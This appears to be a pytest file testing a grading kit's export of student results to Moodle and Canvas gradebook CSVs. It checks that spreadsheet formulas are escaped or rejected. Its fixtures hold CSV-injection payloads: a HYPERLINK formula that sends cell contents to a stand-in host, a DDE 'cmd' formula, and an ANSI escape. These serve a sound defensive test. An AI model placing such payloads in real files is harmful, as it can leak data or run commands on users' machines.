"""``dtlab grade --export moodle,canvas``: the gradebook CSVs Moodle's and Canvas's grade imports take.

The layouts checked here, column by column:

* Moodle's CSV grade import (docs.moodle.org, "Grade import"; grade/import/csv in Moodle's code),
  in the layout of Moodle's grade export (grade/export/txt): the user fields, one of which the
  teacher maps to a user field (useremail, username or useridnumber), then per grade item its
  grade and feedback columns (test_moodle_gradebook.py checks them); a row whose identifier
  matches nobody stops the whole import, so such rows are never written.
* Canvas's gradebook import (the layout of its own gradebook export; app/models/gradebook_importer.rb
  in canvas-lms): ``Student, ID, SIS User ID, SIS Login ID, Section``, then the assignments, headed
  ``name (id)``; a row whose first cell holds ``Points Possible`` gives the assignments' points.

The first test runs ``dtlab grade`` as a teacher does, on a folder of submissions whose results a
previous run left in ``OUT/.dtlab/results`` (so nothing is graded again and no sandbox starts).
"""

import csv
import io

import pytest

from graders.cli import teacher
from graders.cli.main import build_parser, main
from graders.grading import intake
from graders.grading.lms import gradebooks
from graders.grading.reports import outputs
from graders.grading.store import ResultStore

from .test_outputs import result

pytestmark = pytest.mark.graders  # the graders tier: worker worlds, the kit's commands

HOSTILE_LAST = '=HYPERLINK("http://e.vil/?"&A1,"click"), "Quote"\nnew line\x1b[31m'
HOSTILE_FIRST = "@SUM(1+1)"
MOODLE_USERS = ["First name", "Last name", "ID number", "Institution", "Department", "Email address"]
ROSTER = [
    ["id", "first_name", "last_name", "email", "username", "idnumber", "canvas_id", "sis_user_id"]
    + ["sis_login_id", "section"],
    [
        "an",
        "Ánh",
        "Nguyễn Văn",
        "anh.nguyen@uni.edu.vn",
        "anh.nv",
        "SV001",
        "101",
        "SV001",
        "anh.nv",
        "Nhóm 1",
    ],
    ["binh", "Bình", "Trần", "binh.tran@uni.edu.vn", "binh.t", "SV002", "102", "SV002", "binh.t", "Nhóm 2"],
    ["chi", "Chi", "Lê", "", "", "", "", "", "", ""],
    ["evil", HOSTILE_FIRST, HOSTILE_LAST, "evil@uni.edu.vn", "evil", "SV004", "104", "SV004", "evil", "=1+1"],
]
#: an, chi and evil submitted and are on the roster; binh is on the roster only; dung submitted only
SUBMITTED = {
    "an": dict(passed=[("ch2.ring_shift", "result"), ("ch2.broadcast", "result")]),
    "chi": dict(passed=[("ch2.ring_shift", "result")]),
    "dung": dict(passed=[("ch2.broadcast", "result")]),
    "evil": dict(passed=[("ch2.ring_shift", "result")]),
}


def write_roster(path, rows=ROSTER):
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


def read(path):
    """The rows of an exported file, which must be UTF-8 with a byte-order mark and one line per row."""
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode()), "Excel needs the BOM to read Vietnamese names"
    text = data.decode("utf-8")[1:]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert text.count("\n") == len(rows), "a cell spans lines"
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@")), f"formula in {value!r}"
            assert "\x1b" not in value
    return rows


@pytest.fixture
def graded_class(tmp_path):
    """A class's submissions and the results a previous ``dtlab grade`` stored for them."""
    submissions = tmp_path / "submissions"
    for student in SUBMITTED:
        (submissions / student).mkdir(parents=True)
        (submissions / student / "collectives.py").write_text(f"# {student}\n")
    out = tmp_path / "out"
    args = build_parser().parse_args(["grade", str(submissions), "--chapter", "ch2", "--out", str(out)])
    store = ResultStore(out, teacher._settings(args))
    for staged in intake.discover(submissions, "ch2").staged:
        stored = result(staged.student_id, **SUBMITTED[staged.student_id])
        stored.digest = staged.digest
        store.save(stored)
    return submissions, out, write_roster(tmp_path / "roster.csv")


def test_dtlab_grade_writes_both_gradebooks_from_the_roster(graded_class, capsys):
    submissions, out, roster = graded_class
    status = main(
        ["grade", str(submissions), "--chapter", "ch2", "--out", str(out), "--roster", str(roster)]
        + ["--no-misconceptions", "--assignment", "Lab 2: collectives", "--export", "moodle"]
        + ["--export", "canvas", "--canvas-assignment-id", "4711"]
    )
    printed = capsys.readouterr()
    assert status == 0, printed.err
    assert "0 graded now, 4 resumed" in printed.out  # nothing was graded again

    moodle = read(out / "grades_moodle.csv")
    # Moodle's own export: the user fields, then the grade item and its feedback
    assert moodle[0] == [*MOODLE_USERS, "Lab 2: collectives (Real)", "Lab 2: collectives (Feedback)"]
    assert [row[:7] for row in moodle[1:]] == [
        ["Ánh", "Nguyễn Văn", "SV001", "", "", "anh.nguyen@uni.edu.vn", "2"],
        ["Bình", "Trần", "SV002", "", "", "binh.tran@uni.edu.vn", "0"],  # no submission: 0, as in grades.csv
        ["'@SUM(1+1)", '\'=HYPERLINK("http://e.vil/?"&A1,"click"), "Quote" new line[31m', "SV004"]
        + ["", "", "evil@uni.edu.vn", "1"],
    ]
    assert moodle[1][7] == "total: 2/20 · ch2.ring_shift 1/1 passed · " + (
        "ch2.broadcast 1/2 not run (tree: not run)"
    )
    assert moodle[2][7] == "total: 0/20 · no submission"  # importing feedback overwrites the grade

    canvas = read(out / "grades_canvas.csv")
    assert canvas[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "Lab 2: collectives (4711)",
    ]
    assert canvas[1] == ["Points Possible", "", "", "", "", "20"]
    assert canvas[2] == ["Nguyễn Văn, Ánh", "101", "SV001", "anh.nv", "Nhóm 1", "2"]
    assert canvas[3] == ["Trần, Bình", "102", "SV002", "binh.t", "Nhóm 2", "0"]
    evil = canvas[4]
    assert evil[1:] == ["104", "SV004", "evil", "'=1+1", "1"]
    # one line, no escape character, and an apostrophe before what a spreadsheet would run
    assert evil[0] == '\'=HYPERLINK("http://e.vil/?"&A1,"click"), "Quote" new line[31m, @SUM(1+1)'
    assert len(canvas) == 5

    # chi (no identifier in the roster) and dung (not on the roster) are named, never half-written
    for name in ("grades_moodle.csv", "grades_canvas.csv"):
        assert f"{name}: left out chi: " in printed.err and f"{name}: left out dung: " in printed.err
    assert "grades_moodle.csv: left out chi: no email in the roster" in printed.err
    assert "grades_canvas.csv: left out dung: not on the roster" in printed.err
    assert f"→ {out / 'grades_moodle.csv'} (Moodle: 3 student(s), 2 left out" in printed.out
    assert f"→ {out / 'grades_canvas.csv'} (Canvas: 3 student(s), 2 left out" in printed.out
    # the kit's own files are unchanged by the export: every student, nbgrader's columns
    with open(out / "grades.csv", newline="") as fh:
        assert [row["student_id"] for row in csv.DictReader(fh)] == ["an", "binh", "chi", "dung", "evil"]


@pytest.mark.parametrize(
    ("identifier", "header", "values"),
    [
        ("email", "Email address", ["anh.nguyen@uni.edu.vn", "binh.tran@uni.edu.vn", "evil@uni.edu.vn"]),
        ("username", "Username", ["anh.nv", "binh.t", "evil"]),
        ("idnumber", "ID number", ["SV001", "SV002", "SV004"]),
    ],
)
def test_moodle_identifier_column_is_chosen_by_flag(tmp_path, identifier, header, values):
    roster = outputs.read_roster(write_roster(tmp_path / "roster.csv"))
    results = [result(s, **kw) for s, kw in SUBMITTED.items()]
    export = gradebooks.moodle(results, "ch2", tmp_path, roster, assignment="ch2", identifier=identifier)
    rows = read(tmp_path / "grades_moodle.csv")
    assert rows[0][:6] == MOODLE_USERS and rows[0][-2:] == ["ch2 (Real)", "ch2 (Feedback)"]
    column, grade = rows[0].index(header), rows[0].index("ch2 (Real)")
    assert [r[column] for r in rows[1:]] == values and [r[grade] for r in rows[1:]] == ["2", "0", "1"]
    assert export.written == ["an", "binh", "evil"]
    assert export.skipped == [f"chi: no {identifier} in the roster", "dung: not on the roster"]


def test_identifiers_a_spreadsheet_would_run_or_two_students_share_are_left_out(tmp_path):
    rows = [
        ["id", "email", "canvas_id", "sis_user_id", "sis_login_id", "display_name"],
        ["a", "=cmd|' /C calc'!A0", "", "+SV9", "@login", ""],
        ["b", "same@uni.edu.vn", "7", "", "", "Points Possible"],  # Canvas's marker of the points row
        ["c", "same@uni.edu.vn", "7", "", "", ""],
        ["d", "d@uni.edu.vn", "", "-SV4", "d.login", ""],
    ]
    roster = outputs.read_roster(write_roster(tmp_path / "roster.csv", rows))
    results = [result(s) for s in "abcd"]
    moodle = gradebooks.moodle(results, "ch2", tmp_path, roster, assignment="ch2")
    written = [(row[5], row[6]) for row in read(tmp_path / "grades_moodle.csv")[1:]]
    assert written == [("same@uni.edu.vn", "0"), ("d@uni.edu.vn", "0")]
    assert moodle.skipped == [
        "a: its email \"=cmd|' /C calc'!A0\" starts like a spreadsheet formula",
        "c: the same email as b",
    ]
    canvas = gradebooks.canvas(results, "ch2", tmp_path, roster, assignment="ch2")
    written = read(tmp_path / "grades_canvas.csv")
    assert written[0][-1] == "ch2" and written[1] == ["Points Possible", "", "", "", "", "20"]
    assert written[2:] == [["b", "7", "", "", "", "0"], ["d", "", "", "d.login", "", "0"]]
    assert canvas.skipped[0].startswith("a: its sis_user_id '+SV9' starts like a spreadsheet formula; ")
    assert canvas.skipped[1:] == ["c: the same Canvas identifier as b"]


def test_old_rosters_keep_working_and_a_canvas_id_must_be_a_number(tmp_path):
    old = write_roster(
        tmp_path / "old.csv", [["id", "first_name", "last_name", "email"], ["an", "An", "Ng", ""]]
    )
    student = outputs.read_roster(old)["an"]
    assert (student.first_name, student.username, student.canvas_id, student.section) == ("An", "", "", "")
    bad = write_roster(tmp_path / "bad.csv", [["id", "canvas_id"], ["an", "101"], ["bo", "u-17"]])
    with pytest.raises(ValueError, match=r"line 3: canvas_id 'u-17' is not a number"):
        outputs.read_roster(bad)


def test_canvas_headers_an_assignment_as_canvas_reads_it():
    assert gradebooks.canvas_header("Lab 2", 4711) == "Lab 2 (4711)"
    assert gradebooks.canvas_header("Lab 2", None) == "Lab 2"  # Canvas finds it by name, or creates it
    with pytest.raises(ValueError, match="--canvas-assignment-id"):
        gradebooks.canvas_header("Lab (2)", None)  # Canvas would take 2 for the assignment's id


@pytest.mark.parametrize(
    ("options", "roster_rows", "message"),
    [
        (["--export", "moodle"], None, "--export needs --roster"),
        (["--export", "moodle", "--moodle-id", "username"], ROSTER[:1] + [["x"] + [""] * 9], "no username"),
        (["--export", "canvas"], [["id", "email"], ["an", "a@b.c"]], "no Canvas identifier"),
        (["--export", "canvas", "--assignment", "Lab (2)"], ROSTER, "--canvas-assignment-id"),
    ],
)
def test_an_export_that_cannot_be_written_stops_before_grading(
    tmp_path, capsys, options, roster_rows, message
):
    (tmp_path / "submissions" / "an").mkdir(parents=True)
    (tmp_path / "submissions" / "an" / "collectives.py").write_text("")
    argv = ["grade", str(tmp_path / "submissions"), "--chapter", "ch2", "--out", str(tmp_path / "out")]
    if roster_rows:
        argv += ["--roster", str(write_roster(tmp_path / "roster.csv", roster_rows))]
    assert main(argv + options) == 2
    assert message in capsys.readouterr().err
    assert not (tmp_path / "out" / ".dtlab").exists()  # nothing was graded


def test_export_takes_only_known_systems(capsys):
    with pytest.raises(SystemExit):
        build_parser().parse_args(["grade", "x", "--chapter", "ch2", "--export", "moodle,blackboard"])
    assert "one or more of moodle, canvas" in capsys.readouterr().err
    args = build_parser().parse_args(["grade", "x", "--chapter", "ch2", "--export", "Moodle, canvas"])
    assert args.export == [["moodle", "canvas"]] and args.moodle_id == "email"
